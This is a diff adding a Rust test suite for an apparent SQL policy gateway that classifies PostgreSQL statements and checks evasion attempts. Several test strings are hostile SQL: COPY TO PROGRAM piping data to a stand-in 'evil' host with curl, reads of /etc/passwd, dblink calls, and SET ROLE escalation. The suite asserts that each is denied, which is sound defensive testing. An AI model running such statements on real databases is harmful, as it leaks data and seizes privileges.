@@ -1,0 +1,1494 @@
+//! The classifier's and the rules' tests, with the evasion suite: statements
+//! that try to hide what they do from a policy, and harmless statements that
+//! only look dangerous.
+
+use std::sync::Arc;
+
+use gatehouse_crds::PolicySpec;
+use gatehouse_crds::policy::Operation::{self, *};
+use serde_json::json;
+
+use super::*;
+
+// ---------------------------------------------------------------- helpers
+
+fn classified(sql: &str) -> Classification {
+    match classify(sql) {
+        Ok(c) => c,
+        Err(e) => panic!("{sql:?} should classify, got {e}"),
+    }
+}
+
+fn one(sql: &str) -> Statement {
+    let c = classified(sql);
+    assert_eq!(c.statements.len(), 1, "{sql:?} should be one statement: {c:?}");
+    c.statements.into_iter().next().unwrap_or_default()
+}
+
+fn ops(sql: &str) -> Vec<Operation> {
+    classified(sql).operations()
+}
+
+fn tab(schema: Option<&str>, name: &str) -> TableRef {
+    TableRef {
+        schema: schema.map(str::to_owned),
+        name: name.to_owned(),
+    }
+}
+
+fn has_access(s: &Statement, op: Operation, table: &str, write: bool) -> bool {
+    s.accesses.iter().any(|a| {
+        a.operation == op && a.write == write && a.table.as_ref().is_some_and(|t| t.to_string() == table)
+    })
+}
+
+fn reads(s: &Statement) -> Vec<String> {
+    let mut v: Vec<String> = s.tables_read().map(ToString::to_string).collect();
+    v.sort();
+    v.dedup();
+    v
+}
+
+fn writes(s: &Statement) -> Vec<String> {
+    let mut v: Vec<String> = s.tables_written().map(ToString::to_string).collect();
+    v.sort();
+    v.dedup();
+    v
+}
+
+fn policy(name: &str, spec: serde_json::Value) -> CompiledPolicy {
+    let spec: PolicySpec = match serde_json::from_value(spec) {
+        Ok(s) => s,
+        Err(e) => panic!("bad test policy: {e}"),
+    };
+    match CompiledPolicy::compile(name, &spec) {
+        Ok(p) => p,
+        Err(e) => panic!("policy should compile: {e}"),
+    }
+}
+
+fn planner() -> Identity {
+    Identity {
+        username: "system:serviceaccount:agents:planner".into(),
+        groups: vec!["system:serviceaccounts".into()],
+    }
+}
+
+/// The DESIGN.md example: reads allowed, writes on public.orders held, DDL
+/// and friends denied.
+fn design_policies() -> Vec<CompiledPolicy> {
+    vec![policy(
+        "agents-readonly",
+        json!({
+            "connectionSelector": {},
+            "subjects": [
+                {"kind": "ServiceAccount", "name": "planner", "namespace": "agents"},
+                {"kind": "Group", "name": "sre"}
+            ],
+            "rules": [
+                {"name": "reads", "match": {"operations": ["select"]}, "action": "allow"},
+                {"name": "writes-need-approval",
+                 "match": {"operations": ["insert", "update", "delete"], "tables": ["public.orders"]},
+                 "action": "requireApproval", "approvers": {"groups": ["dba"], "required": 1}},
+                {"name": "no-ddl", "match": {"operations": ["ddl", "truncate", "copyProgram", "privilege"]},
+                 "action": "deny"}
+            ]
+        }),
+    )]
+}
+
+fn decision(sql: &str) -> Decision {
+    let c = classified(sql);
+    decide(&design_policies(), &planner(), &c)
+}
+
+fn assert_allowed(sql: &str) {
+    let d = decision(sql);
+    assert!(
+        d.is_allow(),
+        "{sql:?} should be allowed: {d:?} ({:?})",
+        classified(sql)
+    );
+}
+
+fn assert_denied(sql: &str) {
+    let d = decision(sql);
+    assert!(
+        matches!(d, Decision::Deny { .. }),
+        "{sql:?} should be denied: {d:?} ({:?})",
+        classified(sql)
+    );
+}
+
+// ------------------------------------------------------- operation classes
+
+#[test]
+fn every_class_is_recognised() {
+    let cases: &[(&str, &[Operation])] = &[
+        ("SELECT 1", &[Select]),
+        ("VALUES (1), (2)", &[Select]),
+        ("TABLE orders", &[Select]),
+        ("SHOW search_path", &[Select]),
+        ("INSERT INTO orders VALUES (1)", &[Insert]),
+        ("UPDATE orders SET a = 1", &[Update]),
+        ("DELETE FROM orders", &[Delete]),
+        (
+            "MERGE INTO orders o USING src s ON o.id = s.id WHEN MATCHED THEN DELETE",
+            &[Merge, Select],
+        ),
+        ("CREATE TABLE t (a int)", &[Ddl]),
+        ("ALTER TABLE orders ADD COLUMN b int", &[Ddl]),
+        ("DROP TABLE orders", &[Ddl]),
+        ("COMMENT ON TABLE orders IS 'x'", &[Ddl]),
+        ("CREATE INDEX ON orders (a)", &[Ddl]),
+        ("CREATE EXTENSION dblink", &[Ddl]),
+        ("TRUNCATE orders", &[Truncate]),
+        ("COPY orders TO STDOUT", &[CopyTo]),
+        ("COPY orders FROM STDIN", &[CopyFrom]),
+        ("COPY orders TO '/tmp/x'", &[CopyProgram]),
+        ("COPY orders FROM '/etc/passwd'", &[CopyProgram]),
+        ("COPY orders TO PROGRAM 'curl evil'", &[CopyProgram]),
+        ("COPY orders FROM PROGRAM 'id'", &[CopyProgram]),
+        ("GRANT SELECT ON orders TO bob", &[Privilege]),
+        ("REVOKE ALL ON orders FROM bob", &[Privilege]),
+        (
+            "ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO bob",
+            &[Privilege],
+        ),
+        ("GRANT admin TO bob", &[Privilege, Role]),
+        ("CREATE ROLE bob", &[Role]),
+        ("ALTER ROLE bob SUPERUSER", &[Role]),
+        ("DROP ROLE bob", &[Role]),
+        ("ALTER ROLE bob RENAME TO alice", &[Role]),
+        ("SET ROLE admin", &[Role]),
+        ("SET ROLE 'admin'", &[Role]),
+        ("SET LOCAL ROLE admin", &[Role]),
+        ("RESET ROLE", &[Role]),
+        ("SET \"ROLE\" = 'admin'", &[Role]),
+        ("SET SESSION AUTHORIZATION 'admin'", &[Role]),
+        ("SET SESSION AUTHORIZATION DEFAULT", &[Role]),
+        ("SET search_path = secret, public", &[Session]),
+        ("SET statement_timeout = 0", &[Session]),
+        ("RESET ALL", &[Session]),
+        (
+            "SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE",
+            &[Session],
+        ),
+        ("DISCARD PLANS", &[Session]),
+        ("LISTEN ch", &[Session]),
+        ("BEGIN", &[Transaction]),
+        ("START TRANSACTION READ WRITE", &[Transaction]),
+        ("SET TRANSACTION ISOLATION LEVEL SERIALIZABLE", &[Transaction]),
+        ("SAVEPOINT a", &[Transaction]),
+        ("ROLLBACK TO SAVEPOINT a", &[Transaction]),
+        ("COMMIT", &[Transaction]),
+        ("PREPARE TRANSACTION 'x'", &[Transaction]),
+        ("SET CONSTRAINTS ALL DEFERRED", &[Transaction]),
+        ("VACUUM orders", &[Maintenance]),
+        ("ANALYZE orders", &[Maintenance]),
+        ("REINDEX TABLE orders", &[Maintenance]),
+        ("CLUSTER orders USING orders_pkey", &[Maintenance]),
+        ("CHECKPOINT", &[Maintenance]),
+        ("REFRESH MATERIALIZED VIEW mv", &[Maintenance]),
+        ("DO $$ BEGIN NULL; END $$", &[Do]),
+        ("CALL proc(1)", &[Call]),
+        ("PREPARE p AS SELECT 1", &[Prepare]),
+        ("EXECUTE p", &[Prepare]),
+        ("DEALLOCATE p", &[Prepare]),
+        ("DEALLOCATE ALL", &[Prepare]),
+        ("EXPLAIN SELECT 1", &[Explain]),
+        ("EXPLAIN ANALYZE SELECT 1", &[Select]),
+        ("DECLARE c CURSOR FOR SELECT * FROM orders", &[Select]),
+        ("FETCH 10 FROM c", &[Select]),
+        ("CLOSE c", &[Select]),
+        ("LOCK TABLE orders IN ACCESS EXCLUSIVE MODE", &[Update]),
+        ("NOTIFY ch, 'x'", &[SideEffectFunction]),
+        ("SELECT nextval('s')", &[Select, SideEffectFunction]),
+    ];
+    for (sql, expected) in cases {
+        let mut got = ops(sql);
+        let mut want = expected.to_vec();
+        got.sort_by_key(|o| op_index(*o));
+        want.sort_by_key(|o| op_index(*o));
+        assert_eq!(got, want, "{sql}");
+    }
+}
+
+#[test]
+fn show_is_a_read_and_discard_all_resets_role_and_prepared_statements() {
+    assert_eq!(ops("SHOW ALL"), vec![Select]);
+    let s = one("DISCARD ALL");
+    assert!(s.has(Session) && s.has(Role));
+    assert_eq!(s.prepared, Some(PreparedEffect::DeallocateAll));
+}
+
+#[test]
+fn tables_carry_their_schema() {
+    let s = one("INSERT INTO sales.orders SELECT * FROM public.customers c JOIN items USING (id)");
+    assert_eq!(writes(&s), vec!["sales.orders"]);
+    assert_eq!(reads(&s), vec!["items", "public.customers"]);
+    assert!(s.tables_read().any(|t| *t == tab(None, "items")));
+    assert!(s.tables_read().any(|t| *t == tab(Some("public"), "customers")));
+    // Unquoted names are folded to lower case, quoted ones kept.
+    let s = one("SELECT * FROM Public.ORDERS, \"Mixed\".\"Case\"");
+    assert_eq!(reads(&s), vec!["Mixed.Case", "public.orders"]);
+}
+
+#[test]
+fn update_and_delete_read_their_other_tables() {
+    let s = one("UPDATE orders o SET total = p.x FROM prices p WHERE o.id = p.id");
+    assert!(has_access(&s, Update, "orders", true));
+    assert_eq!(reads(&s), vec!["prices"]);
+    let s = one("DELETE FROM orders USING secret.keys k WHERE k.id = orders.id");
+    assert!(has_access(&s, Delete, "orders", true));
+    assert_eq!(reads(&s), vec!["secret.keys"]);
+}
+
+#[test]
+fn upsert_is_an_insert_and_an_update() {
+    let s = one("INSERT INTO orders VALUES (1) ON CONFLICT (id) DO UPDATE SET a = 2");
+    assert!(has_access(&s, Insert, "orders", true) && has_access(&s, Update, "orders", true));
+    let s = one("INSERT INTO orders VALUES (1) ON CONFLICT DO NOTHING");
+    assert_eq!(s.operations, vec![Insert]);
+}
+
+#[test]
+fn ddl_names_its_tables() {
+    let s = one("DROP TABLE public.orders, items");
+    assert_eq!(writes(&s), vec!["items", "public.orders"]);
+    assert!(has_access(&s, Ddl, "public.orders", true));
+    let s = one("DROP TRIGGER trg ON public.orders");
+    assert_eq!(writes(&s), vec!["public.orders"]);
+    let s = one("ALTER TABLE orders RENAME TO old_orders");
+    assert_eq!(writes(&s), vec!["orders"]);
+    let s = one("CREATE VIEW v AS SELECT * FROM secret.keys");
+    assert!(has_access(&s, Ddl, "v", true));
+    assert!(has_access(&s, Select, "secret.keys", false));
+    let s = one("GRANT SELECT ON public.orders TO bob");
+    assert!(has_access(&s, Privilege, "public.orders", true));
+    let s = one("VACUUM (ANALYZE) public.orders");
+    assert!(has_access(&s, Maintenance, "public.orders", true));
+    let s = one("TRUNCATE public.orders, items");
+    assert!(has_access(&s, Truncate, "public.orders", true) && has_access(&s, Truncate, "items", true));
+}
+
+// ------------------------------------------------------------ the evasions
+
+#[test]
+fn multi_statement_queries_take_every_statement() {
+    let c = classified("SELECT 1; DROP TABLE orders");
+    assert_eq!(c.statements.len(), 2);
+    assert_eq!(c.statements[1].operations, vec![Ddl]);
+    assert_denied("SELECT 1; DROP TABLE orders");
+    assert_denied("SELECT * FROM orders; DELETE FROM public.items WHERE id = 1; SELECT 2");
+    assert!(matches!(
+        decision("SELECT 1; DELETE FROM public.orders WHERE id = 1"),
+        Decision::RequireApproval { .. }
+    ));
+    assert_allowed("SELECT 1; SELECT 2;;");
+}
+
+#[test]
+fn comments_hide_nothing_and_add_nothing() {
+    assert_eq!(ops("/* DROP TABLE orders */ SELECT 1"), vec![Select]);
+    assert_eq!(ops("SELECT 1 -- ; DROP TABLE orders"), vec![Select]);
+    assert_eq!(
+        ops("/* nested /* DROP TABLE x */ still a comment; DELETE FROM y */ SELECT 1"),
+        vec![Select]
+    );
+    assert_eq!(ops("-- x\nDELETE FROM orders"), vec![Delete]);
+    assert_eq!(
+        ops("SELECT/**/1;/**/DELETE/**/FROM/**/orders"),
+        vec![Select, Delete]
+    );
+    assert_allowed("/* DROP */ SELECT 1");
+    assert_denied("-- x\nDELETE FROM items");
+}
+
+#[test]
+fn literals_that_contain_keywords_are_just_reads() {
+    let harmless = [
+        "SELECT 'DROP TABLE orders; DELETE FROM orders'",
+        "SELECT 'x'';DROP TABLE orders;--'",
+        "SELECT $$; DELETE FROM orders; $$",
+        "SELECT $tag$ $$ ; DROP TABLE orders; $$ $tag$",
+        "SELECT E'it\\'s; DROP TABLE orders; --'",
+        "SELECT E'\\\\'",
+        "SELECT U&'\\0041; DROP TABLE orders'",
+        "SELECT 'pg_read_file(''/etc/passwd'')'",
+        "SELECT * FROM orders WHERE note = 'COPY orders TO PROGRAM ''sh'''",
+        "SELECT * FROM orders WHERE note LIKE '%; GRANT ALL ON orders TO evil; --%'",
+        "SELECT 'a'\n'b; DROP TABLE orders'",
+        "SELECT \"DROP TABLE orders\" FROM orders",
+        "SELECT B'1010', X'1F', 1e10, .5, 42",
+    ];
+    for sql in harmless {
+        let s = one(sql);
+        assert!(s.operations == vec![Select], "{sql:?}: {s:?}");
+        assert_allowed(sql);
+    }
+}
+
+#[test]
+fn writable_ctes_are_writes() {
+    let s = one("WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d");
+    assert!(s.has(Select) && s.has(Delete));
+    assert!(has_access(&s, Delete, "orders", true));
+    assert!(reads(&s).is_empty(), "d is a CTE, not a table: {s:?}");
+    assert_denied("WITH d AS (DELETE FROM items RETURNING *) SELECT * FROM d");
+
+    let s = one("WITH a AS (SELECT 1), b AS (UPDATE orders SET x = 1 RETURNING id) SELECT * FROM a, b");
+    assert!(has_access(&s, Update, "orders", true));
+    let s = one("WITH i AS (INSERT INTO audit VALUES (1) RETURNING *) INSERT INTO orders SELECT * FROM i");
+    assert!(has_access(&s, Insert, "audit", true) && has_access(&s, Insert, "orders", true));
+    // Deeper than PostgreSQL allows still classifies as a write.
+    let s = one("SELECT * FROM (WITH d AS (DELETE FROM orders RETURNING 1) SELECT * FROM d) x");
+    assert!(s.has(Delete));
+    let s =
+        one("WITH m AS (MERGE INTO orders USING src ON true WHEN MATCHED THEN DELETE RETURNING *) SELECT 1");
+    assert!(has_access(&s, Merge, "orders", true));
+}
+
+#[test]
+fn cte_names_shadow_tables_only_where_visible() {
+    // The CTE reads secret.keys; "orders" below is the CTE.
+    let s = one("WITH orders AS (SELECT * FROM secret.keys) SELECT * FROM orders");
+    assert_eq!(reads(&s), vec!["secret.keys"]);
+    // A non-recursive CTE's body sees the real table of the same name.
+    let s = one("WITH orders AS (SELECT * FROM orders) SELECT * FROM orders");
+    assert_eq!(reads(&s), vec!["orders"]);
+    // A later CTE sees an earlier one; an earlier one does not see a later one.
+    let s = one("WITH a AS (SELECT * FROM b), b AS (SELECT * FROM a) SELECT * FROM b");
+    assert_eq!(reads(&s), vec!["b"]);
+    // Recursive CTEs see themselves.
+    let s = one("WITH RECURSIVE r AS (SELECT 1 UNION ALL SELECT * FROM r) SELECT * FROM r");
+    assert!(reads(&s).is_empty());
+    // A qualified name is never a CTE.
+    let s = one("WITH orders AS (SELECT 1) SELECT * FROM public.orders");
+    assert_eq!(reads(&s), vec!["public.orders"]);
+    // Sub-queries see the outer CTEs.
+    let s = one("WITH k AS (SELECT 1) SELECT * FROM t WHERE EXISTS (SELECT * FROM k)");
+    assert_eq!(reads(&s), vec!["t"]);
+    // A DML target is a table even when a CTE has its name.
+    let s = one("WITH orders AS (SELECT 1) DELETE FROM orders");
+    assert!(has_access(&s, Delete, "orders", true));
+}
+
+#[test]
+fn side_effect_functions_are_found_in_every_position() {
+    let positions = [
+        "SELECT pg_read_file('/etc/passwd')",
+        "SELECT * FROM orders WHERE pg_read_file('/etc/passwd') IS NOT NULL",
+        "SELECT * FROM pg_ls_dir('.')",
+        "SELECT * FROM orders ORDER BY pg_read_file('x')",
+        "SELECT * FROM orders GROUP BY 1 HAVING count(pg_read_file('x')) > 0",
+        "SELECT (SELECT (SELECT pg_read_file('x')))",
+        "SELECT * FROM orders WHERE id IN (SELECT length(pg_read_file('x')))",
+        "WITH x AS (SELECT pg_read_file('x')) SELECT 1",
+        "VALUES (1, pg_read_file('x'))",
+        "SELECT length(upper(pg_read_file('x')))",
+        "CREATE TABLE t (a text DEFAULT pg_read_file('x'))",
+        "CREATE TABLE t (id bigint DEFAULT nextval('s'))",
+        "ALTER TABLE orders ALTER COLUMN id SET DEFAULT nextval('s')",
+        "SELECT * FROM orders LIMIT nextval('s')",
+        "SELECT * FROM orders o JOIN items i ON pg_read_file('x') = i.name",
+        "SELECT * FROM orders, LATERAL pg_ls_dir('.') AS d",
+        "SELECT * FROM ROWS FROM (pg_ls_dir('.'), generate_series(1, 2))",
+        "SELECT CASE WHEN true THEN pg_read_file('x') END",
+        "SELECT COALESCE(NULL, pg_read_file('x'))",
+        "SELECT ARRAY[pg_read_file('x')]",
+        "SELECT ROW(pg_read_file('x'))",
+        "SELECT pg_read_file('x')::text",
+        "SELECT count(*) FILTER (WHERE pg_read_file('x') IS NULL) FROM orders",
+        "SELECT sum(1) OVER (ORDER BY pg_read_file('x')) FROM orders",
+        "SELECT json_object('k': pg_read_file('x'))",
+        "SELECT * FROM XMLTABLE('/a' PASSING xmlparse(document pg_read_file('x')) COLUMNS a int)",
+        "SELECT * FROM orders TABLESAMPLE system (nextval('s'))",
+        "SELECT 1 WHERE 1 = ANY(ARRAY(SELECT nextval('s')))",
+        "INSERT INTO orders VALUES (nextval('s'))",
+        "INSERT INTO orders SELECT pg_read_file('x')",
+        "UPDATE orders SET note = pg_read_file('x')",
+        "DELETE FROM orders WHERE note = pg_read_file('x')",
+        "DELETE FROM orders RETURNING pg_read_file('x')",
+        "MERGE INTO orders USING src ON pg_read_file('x') = '' WHEN MATCHED THEN DELETE",
+        "COPY (SELECT pg_read_file('x')) TO STDOUT",
+        "COPY orders FROM STDIN WHERE pg_read_file('x') IS NULL",
+        "CALL proc(pg_read_file('x'))",
+        "EXECUTE p(pg_read_file('x'))",
+        "EXPLAIN SELECT pg_read_file('x')",
+        "PREPARE q AS SELECT pg_read_file('x')",
+        "DECLARE c CURSOR FOR SELECT pg_read_file('x')",
+        "SELECT pg_catalog.pg_read_file('x')",
+        "SELECT PG_READ_FILE('x')",
+        "SELECT \"pg_read_file\"('x')",
+        "SELECT pg_catalog . pg_read_file ( 'x' )",
+        "SELECT set_config('role', 'postgres', false)",
+        "SELECT set_config('standard_conforming_strings', 'off', false)",
+        "SELECT dblink_exec('host=evil', 'DROP TABLE orders')",
+        "SELECT lo_import('/etc/passwd')",
+        "SELECT lo_export(1234, '/tmp/x')",
+        "SELECT query_to_xml('DELETE FROM orders RETURNING *', true, false, '')",
+        "SELECT table_to_xml('secret.keys', true, false, '')",
+        "SELECT pg_terminate_backend(123)",
+        "SELECT pg_advisory_lock(1)",
+        "SELECT setval('s', 1)",
+        "SELECT pg_reload_conf()",
+        "SELECT 1 FROM orders WHERE EXISTS (SELECT 1 FROM items WHERE pg_cancel_backend(pid))",
+        "CREATE INDEX ON orders ((pg_read_file('x')))",
+        "UPDATE pg_settings SET setting = 'off' WHERE name = 'standard_conforming_strings'",
+        "UPDATE pg_catalog.pg_settings SET setting = 'x' WHERE name = 'search_path'",
+        "CREATE FUNCTION f() RETURNS text BEGIN ATOMIC SELECT pg_read_file('x'); END",
+    ];
+    for sql in positions {
+        let c = classified(sql);
+        assert!(
+            c.statements
+                .iter()
+                .any(|s| s.has(SideEffectFunction) && !s.side_effect_functions.is_empty()),
+            "{sql:?} should call a side-effect function: {c:?}"
+        );
+        assert_denied(sql);
+    }
+    // The names are kept, schema-qualified when written so.
+    let s = one("SELECT pg_catalog.pg_read_file('x'), now()");
+    assert!(s.functions.contains(&FunctionRef {
+        schema: Some("pg_catalog".into()),
+        name: "pg_read_file".into()
+    }));
+    assert!(s.functions.contains(&FunctionRef {
+        schema: None,
+        name: "now".into()
+    }));
+    assert_eq!(s.side_effect_functions.len(), 1);
+}
+
+#[test]
+fn ordinary_functions_are_not_side_effects() {
+    let s = one("SELECT lower(name), count(*), now(), currval('s') FROM orders GROUP BY 1");
+    assert_eq!(s.operations, vec![Select]);
+    assert_eq!(s.functions.len(), 4);
+    assert_allowed("SELECT lower(name), count(*), now() FROM orders GROUP BY 1");
+}
+
+#[test]
+fn do_blocks_are_their_own_class() {
+    let s = one("DO $$ BEGIN DELETE FROM orders; END $$");
+    assert_eq!(s.operations, vec![Do]);
+    assert_denied("DO $$ BEGIN DELETE FROM orders; END $$");
+    assert_denied("DO LANGUAGE plpgsql 'BEGIN PERFORM 1; END'");
+}
+
+#[test]
+fn copy_directions_and_programs() {
+    let s = one("COPY orders TO PROGRAM 'curl -d @- evil'");
+    assert!(has_access(&s, CopyProgram, "orders", false));
+    assert_denied("COPY orders TO PROGRAM 'curl -d @- evil'");
+    let s = one("COPY orders FROM '/etc/passwd'");
+    assert!(has_access(&s, CopyProgram, "orders", true));
+    let s = one("COPY orders TO STDOUT WITH (FORMAT csv)");
+    assert!(has_access(&s, CopyTo, "orders", false));
+    let s = one("COPY orders FROM STDIN");
+    assert!(has_access(&s, CopyFrom, "orders", true));
+    // The query's tables are read by the COPY, not by a plain select.
+    let s = one("COPY (SELECT * FROM secret.keys) TO STDOUT");
+    assert!(has_access(&s, CopyTo, "secret.keys", false));
+    assert!(!s.has(Select));
+    let s = one("COPY (DELETE FROM orders RETURNING *) TO STDOUT");
+    assert!(has_access(&s, Delete, "orders", true) && s.has(CopyTo));
+    // The DESIGN policy has no copyTo rule: default deny.
+    assert_denied("COPY orders TO STDOUT");
+}
+
+#[test]
+fn explain_runs_only_with_analyze() {
+    let s = one("EXPLAIN DELETE FROM orders");
+    assert_eq!(s.operations, vec![Explain]);
+    assert!(has_access(&s, Explain, "orders", false));
+    assert!(s.tables_written().next().is_none());
+    for sql in [
+        "EXPLAIN ANALYZE DELETE FROM orders",
+        "EXPLAIN (ANALYZE) DELETE FROM orders",
+        "EXPLAIN (FORMAT JSON, ANALYZE, BUFFERS) DELETE FROM orders",
+        "EXPLAIN (ANALYZE true) DELETE FROM orders",
+        "EXPLAIN (ANALYZE 'on') DELETE FROM orders",
+        "EXPLAIN (ANALYZE 1) DELETE FROM orders",
+        "EXPLAIN (ANALYZE maybe) DELETE FROM orders",
+    ] {
+        let s = one(sql);
+        assert_eq!(s.operations, vec![Delete], "{sql}");
+        assert!(has_access(&s, Delete, "orders", true), "{sql}");
+    }
+    for sql in [
+        "EXPLAIN (ANALYZE false) DELETE FROM orders",
+        "EXPLAIN (ANALYZE off) DELETE FROM orders",
+        "EXPLAIN (ANALYZE 0) DELETE FROM orders",
+    ] {
+        let s = one(sql);
+        assert_eq!(s.operations, vec![Explain], "{sql}");
+        assert!(s.constant_sensitive, "{sql}");
+    }
+    let s = one("EXPLAIN ANALYZE WITH d AS (DELETE FROM orders RETURNING 1) SELECT * FROM d");
+    assert!(s.has(Delete) && s.has(Select));
+    let s = one("EXPLAIN ANALYZE SELECT * INTO t2 FROM orders");
+    assert!(has_access(&s, Insert, "t2", true) && has_access(&s, Ddl, "t2", true));
+    assert_denied("EXPLAIN ANALYZE DELETE FROM items");
+}
+
+#[test]
+fn prepare_and_execute_are_tracked_per_session() {
+    let mut session = PreparedStatements::new();
+    let prepare = classified("PREPARE del(int) AS DELETE FROM orders WHERE id = $1");
+    assert_eq!(prepare.operations(), vec![Prepare]);
+    // Unknown names fail closed, before and after.
+    assert_eq!(
+        session.resolve(&classified("EXECUTE del(1)")),
+        Err(ClassifyError::UnknownPrepared("del".into()))
+    );
+    let resolved = session.apply(&prepare);
+    assert!(resolved.is_ok());
+    assert_eq!(session.len(), 1);
+
+    let exec = match session.resolve(&classified("EXECUTE del(42)")) {
+        Ok(c) => c,
+        Err(e) => panic!("{e}"),
+    };
+    assert_eq!(exec.operations(), vec![Delete]);
+    assert!(has_access(&exec.statements[0], Delete, "orders", true));
+    // An unresolved EXECUTE is denied by the rules.
+    assert!(matches!(
+        decide(&design_policies(), &planner(), &classified("EXECUTE del(42)")),
+        Decision::Deny { .. }
+    ));
+    // Resolved, the delete on orders is held for approval.
+    assert!(matches!(
+        decide(&design_policies(), &planner(), &exec),
+        Decision::RequireApproval { .. }
+    ));
+
+    // Side effects in the parameters count too.
+    let exec = session.resolve(&classified("EXECUTE del(length(pg_read_file('x')))"));
+    assert!(exec.is_ok_and(|c| c.statements[0].has(SideEffectFunction) && c.statements[0].has(Delete)));
+
+    // EXPLAIN EXECUTE only plans; EXPLAIN ANALYZE EXECUTE and CREATE TABLE AS EXECUTE run it.
+    let plan = session.resolve(&classified("EXPLAIN EXECUTE del(1)"));
+    assert!(plan.is_ok_and(|c| c.operations() == vec![Explain]));
+    let run = session.resolve(&classified("EXPLAIN ANALYZE EXECUTE del(1)"));
+    assert!(run.is_ok_and(|c| c.operations() == vec![Delete]));
+    let ctas = session.resolve(&classified("CREATE TABLE copy AS EXECUTE del(1)"));
+    assert!(ctas.is_ok_and(|c| c.statements[0].has(Ddl)
+        && c.statements[0].has(Delete)
+        && !c.statements[0].has(Prepare)));
+
+    // A second PREPARE of the same name does not replace the first (the
+    // server refuses it and keeps the first).
+    let _ = session.apply(&classified("PREPARE del AS SELECT 1"));
+    let exec = session.resolve(&classified("EXECUTE del(1)"));
+    assert!(exec.is_ok_and(|c| c.operations() == vec![Delete]));
+
+    // DEALLOCATE removes; EXECUTE then fails closed.
+    let _ = session.apply(&classified("DEALLOCATE del"));
+    assert!(session.resolve(&classified("EXECUTE del(1)")).is_err());
+
+    // DEALLOCATE ALL and DISCARD ALL clear.
+    let _ = session.apply(&classified("PREPARE a AS SELECT 1; PREPARE b AS SELECT 2"));
+    assert_eq!(session.len(), 2);
+    let _ = session.apply(&classified("DEALLOCATE ALL"));
+    assert!(session.is_empty());
+    let _ = session.apply(&classified("PREPARE a AS SELECT 1"));
+    let _ = session.apply(&classified("DISCARD ALL"));
+    assert!(session.is_empty());
+}
+
+#[test]
+fn prepare_and_execute_in_one_query() {
+    let session = PreparedStatements::new();
+    let c = session.resolve(&classified("PREPARE p AS DELETE FROM orders; EXECUTE p"));
+    assert!(c.is_ok_and(|c| c.statements[1].operations == vec![Delete]));
+    let c = session.resolve(&classified("PREPARE p AS SELECT 1; DEALLOCATE p; EXECUTE p"));
+    assert_eq!(c, Err(ClassifyError::UnknownPrepared("p".into())));
+    let c = session.resolve(&classified("PREPARE p AS SELECT 1; DEALLOCATE ALL; EXECUTE p"));
+    assert!(c.is_err());
+    // resolve records nothing.
+    assert!(session.is_empty());
+}
+
+#[test]
+fn protocol_level_statements_share_the_namespace() {
+    let mut session = PreparedStatements::new();
+    // A named Parse of "EXECUTE inner" chains to the SQL-level statement.
+    assert!(session.insert("step_one", one("UPDATE orders SET a = 1")));
+    assert!(session.insert("step_two", one("EXECUTE step_one")));
+    let c = session.resolve(&classified("EXECUTE step_two"));
+    assert!(c.is_ok_and(|c| c.operations() == vec![Update]));
+    assert!(
+        !session.insert("step_one", one("SELECT 1")),
+        "an existing name is kept"
+    );
+    assert!(session.remove("step_one"));
+    assert!(session.resolve(&classified("EXECUTE step_two")).is_err());
+}
+
+#[test]
+fn select_into_and_locking_are_writes() {
+    let s = one("SELECT * INTO archive FROM orders");
+    assert!(has_access(&s, Insert, "archive", true) && has_access(&s, Ddl, "archive", true));
+    assert!(has_access(&s, Select, "orders", false));
+    assert_denied("SELECT * INTO archive FROM orders");
+    let s = one("CREATE TABLE archive AS SELECT * FROM orders");
+    assert!(has_access(&s, Insert, "archive", true) && has_access(&s, Select, "orders", false));
+
+    for sql in [
+        "SELECT * FROM items FOR UPDATE",
+        "SELECT * FROM items FOR SHARE",
+        "SELECT * FROM items FOR NO KEY UPDATE SKIP LOCKED",
+        "SELECT * FROM items FOR KEY SHARE NOWAIT",
+        "SELECT * FROM items i FOR UPDATE OF i",
+        "SELECT * FROM (SELECT * FROM items) x FOR UPDATE",
+    ] {
+        let s = one(sql);
+        assert!(has_access(&s, Update, "items", true), "{sql}: {s:?}");
+        assert_denied(sql);
+    }
+    // On public.orders, the update is held for approval like any other.
+    assert!(matches!(
+        decision("SELECT * FROM orders FOR UPDATE"),
+        Decision::RequireApproval { .. }
+    ));
+    // A table only in WHERE is not locked.
+    let s = one("SELECT * FROM orders WHERE id IN (SELECT id FROM items) FOR UPDATE");
+    assert!(has_access(&s, Update, "orders", true));
+    assert!(!has_access(&s, Update, "items", true));
+}
+
+#[test]
+fn call_merge_truncate_grant_and_set_role() {
+    let s = one("CALL app.archive_orders(30)");
+    assert_eq!(s.operations, vec![Call]);
+    assert!(s.functions.contains(&FunctionRef {
+        schema: Some("app".into()),
+        name: "archive_orders".into()
+    }));
+    assert_denied("CALL app.archive_orders(30)");
+    let s = one(
+        "MERGE INTO orders o USING staging s ON o.id = s.id WHEN MATCHED THEN UPDATE SET total = s.total WHEN NOT MATCHED THEN INSERT VALUES (s.id)",
+    );
+    assert!(has_access(&s, Merge, "orders", true) && has_access(&s, Select, "staging", false));
+    assert_denied("MERGE INTO orders o USING staging s ON o.id = s.id WHEN MATCHED THEN DELETE");
+    assert_denied("TRUNCATE orders");
+    assert_denied("GRANT ALL ON orders TO planner");
+    assert_denied("SET ROLE postgres");
+    assert_denied("SET SESSION AUTHORIZATION postgres");
+    assert_denied("BEGIN; SET LOCAL ROLE postgres; DELETE FROM orders; COMMIT");
+}
+
+#[test]
+fn settings_that_change_how_text_is_read_are_refused() {
+    for sql in [
+        "SET standard_conforming_strings = off",
+        "SET standard_conforming_strings TO 'off'",
+        "SET standard_conforming_strings = 0",
+        "SET standard_conforming_strings TO DEFAULT",
+        "RESET standard_conforming_strings",
+        "SET \"Standard_Conforming_Strings\" = off",
+        "SET client_encoding = 'SJIS'",
+        "SET NAMES 'BIG5'",
+        "RESET client_encoding",
+        "SELECT 1; SET client_encoding TO 'GBK'",
+    ] {
+        assert!(matches!(classify(sql), Err(ClassifyError::Refused(_))), "{sql}");
+    }
+    for sql in [
+        "SET standard_conforming_strings = on",
+        "SET standard_conforming_strings TO 'true'",
+        "SET client_encoding = 'UTF8'",
+        "SET NAMES 'utf-8'",
+        "SET client_encoding TO unicode",
+    ] {
+        let s = one(sql);
+        assert_eq!(s.operations, vec![Session], "{sql}");
+        assert!(s.constant_sensitive, "{sql}");
+    }
+}
+
+#[test]
+fn statements_that_reach_outside_the_database_are_refused() {
+    assert!(matches!(
+        classify("LOAD 'auto_explain'"),
+        Err(ClassifyError::Refused(_))
+    ));
